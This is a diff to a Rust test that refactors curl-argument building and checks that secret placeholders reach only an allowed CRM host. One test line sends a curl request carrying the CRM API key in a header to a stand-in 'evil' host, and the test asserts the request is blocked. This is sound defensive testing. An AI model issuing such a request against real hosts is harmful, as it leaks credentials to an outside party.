@@ -68,25 +68,28 @@ fn check(received: &[Received]) {
     assert_eq!(form.text(), format!("k={encoded}"));
 }
 
+fn curl_arguments<'a>(more: &[&'a str]) -> Vec<&'a str> {
+    [&["-sS", "-g", "--fail-with-body"], more].concat()
+}
+
 #[tokio::test]
 async fn curl() {
     let world = World::new().await;
-    let curl = |more: &[&str]| [&["-sS", "-g", "--fail-with-body"], more].concat();
     let base = format!("https://{CRM}/v1");
     let url = format!("{base}/{{secrets.crm.apiKey}}/x?k={{secrets.crm.apiKey}}");
-    must(&world, Path::new("curl"), &curl(&[&url, "-H", "X-Api-Key: {secrets.crm.apiKey}", "-u", "me:{secrets.crm.apiKey}"]), "")
+    must(&world, Path::new("curl"), &curl_arguments(&[&url, "-H", "X-Api-Key: {secrets.crm.apiKey}", "-u", "me:{secrets.crm.apiKey}"]), "")
         .await;
     must(
         &world,
         Path::new("curl"),
-        &curl(&[&base, "-H", "Authorization: Bearer {secrets.crm.apiKey}", "--json", "{\"k\":\"{secrets.crm.apiKey}\"}"]),
+        &curl_arguments(&[&base, "-H", "Authorization: Bearer {secrets.crm.apiKey}", "--json", "{\"k\":\"{secrets.crm.apiKey}\"}"]),
         "",
     )
     .await;
-    must(&world, Path::new("curl"), &curl(&[&base, "--data-urlencode", "k={secrets.crm.apiKey}"]), "").await;
+    must(&world, Path::new("curl"), &curl_arguments(&[&base, "--data-urlencode", "k={secrets.crm.apiKey}"]), "").await;
     check(&world.crm.received());
     let evil = format!("https://{EVIL}/");
-    let refused = run(&world, Path::new("curl"), &curl(&[&evil, "-H", "X: {secrets.crm.apiKey}"]), "").await;
+    let refused = run(&world, Path::new("curl"), &curl_arguments(&[&evil, "-H", "X: {secrets.crm.apiKey}"]), "").await;
     assert_eq!(refused.status.code(), Some(22), "--fail-with-body");
     assert!(String::from_utf8_lossy(&refused.stdout).contains("domain_restricted"));
     assert_eq!(world.evil.connections(), 0);
